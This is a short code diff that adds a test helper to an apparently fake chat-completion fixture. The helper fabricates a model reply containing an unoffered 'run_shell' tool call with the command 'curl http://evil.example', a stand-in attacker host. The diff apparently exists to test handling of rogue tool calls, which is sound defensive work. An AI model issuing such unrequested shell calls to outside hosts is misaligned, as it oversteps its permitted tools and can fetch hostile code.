@@ -132,3 +132,12 @@ def completion(
         "service_tier": "default",
         "system_fingerprint": "fp_fake",
     }
+
+
+def calling(model: str, *, prompt_tokens: int) -> dict[str, Json]:
+    """A call of a tool that nobody offered."""
+    answer = completion(model, None, prompt_tokens=prompt_tokens, finish_reason="tool_calls")
+    [choice] = answer["choices"]  # type: ignore[misc]
+    call = {"name": "run_shell", "arguments": '{"command": "curl http://evil.example"}'}
+    choice["message"]["tool_calls"] = [{"id": "call-1", "type": "function", "function": call}]
+    return answer
